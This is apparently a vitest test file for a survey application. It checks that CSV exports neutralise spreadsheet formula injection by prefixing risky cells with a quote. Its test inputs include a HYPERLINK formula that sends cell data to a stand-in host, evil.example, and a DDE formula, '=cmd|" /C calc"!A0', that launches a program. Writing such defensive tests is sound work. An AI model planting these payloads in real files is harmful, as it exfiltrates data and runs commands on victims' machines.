/**
 * CSV downloads neutralise formulas (OWASP "CSV injection"): a text cell starting with =, +, -,
 * @, TAB or CR is prefixed with a single quote, so a spreadsheet shows it as text and never runs
 * it; numbers, negative ones included, stay numbers.
 */
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newUnit } from '../support/factories.js';
import { startTestApp, type TestApp } from '../support/harness.js';
import { newQuestionnaire, publish } from '../support/questionnaires.js';
import { newSurveyTenant, type SurveyTenant } from '../support/public-survey.js';

let app: TestApp;
let t: SurveyTenant;
let questionnaireId: string;
let token: string;

const SUBMIT = `mutation($input: SubmitResponseInput!) { submitResponse(input: $input) { responseId } }`;
const survey = {
  pages: [
    {
      name: 'p',
      elements: [
        { type: 'rating', name: 'mood', rateMin: -2, rateMax: 2 },
        { type: 'comment', name: 'why' },
      ],
    },
  ],
};
const download = async (path: string) => {
  const response = await fetch(`${app.url}${path}`, {
    headers: { cookie: `barometer_session=${t.admin.cookie('barometer_session')}` },
  });
  expect(response.status).toBe(200);
  const text = await response.text();
  return { text, rows: parse(text, { bom: true, columns: true }) as Record<string, string>[] };
};

beforeAll(async () => {
  app = await startTestApp({ ROLLUP_INTERVAL_MS: '0' });
  t = await newSurveyTenant(app, 'Exports');
  const q = await newQuestionnaire(t.admin, t.headOfficeId, survey, 'Mood');
  questionnaireId = q.id;
  const versionId = (await publish(t.admin, q.id, 'v1')).id;
  token = (
    await t.admin.ok(
      `mutation { openQuestionnaireVersion(input: { versionId: "${versionId}", unitId: "${t.headOfficeId}" }) { token } }`,
    )
  ).openQuestionnaireVersion.token;
});
afterAll(() => app?.close());

describe('CSV exports', () => {
  it('respondent text starting with = + - @ TAB or CR comes out quoted as text; a negative rating stays a number', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-1-1', '@SUM(A1:A9)', '\t=1', '\r=1'];
    for (const [i, why] of hostile.entries()) {
      await app.client().ok(SUBMIT, {
        input: {
          token,
          clientRequestId: randomUUID(),
          answers: { mood: -2, why },
          respondentCategory: i === 0 ? '=cmd|" /C calc"!A0' : 'insured',
        },
      });
    }
    const { text, rows } = await download(
      `/api/exports/responses?questionnaireId=${questionnaireId}&format=csv&language=raw`,
    );
    expect(rows.map((r) => r.why).sort()).toEqual(hostile.map((h) => `'${h}`).sort());
    expect(rows.map((r) => r._respondent_category)).toContain(`'=cmd|" /C calc"!A0`);
    expect(rows.map((r) => r.mood)).toEqual(Array(6).fill('-2'));
    // Every data line's mood cell is the bare number, not quoted text.
    expect(text.split('\n').filter((l) => /,-2,/.test(l))).toHaveLength(6);
  });

  it('a unit name starting with = in the results download comes out as text', async () => {
    const unit = await newUnit(t.admin, t.headOfficeId, 'EVIL');
    await t.admin.ok(`mutation($input: UpdateOrgUnitInput!) { updateOrgUnit(input: $input) { id } }`, {
      input: { id: unit.id, name: '=2+5' },
    });
    const model = (await t.admin.ok(`{ indicatorModels { edges { node { id } } } }`)).indicatorModels.edges[0].node.id;
    const { rows } = await download(
      `/api/exports/results?modelId=${model}&unitId=${t.headOfficeId}&from=2020-01-01&to=2030-01-01&children=true&format=csv`,
    );
    expect(rows.map((r) => r.unit_name)).toContain(`'=2+5`);
    expect(rows.map((r) => r.unit_name)).not.toContain('=2+5');
  });
});
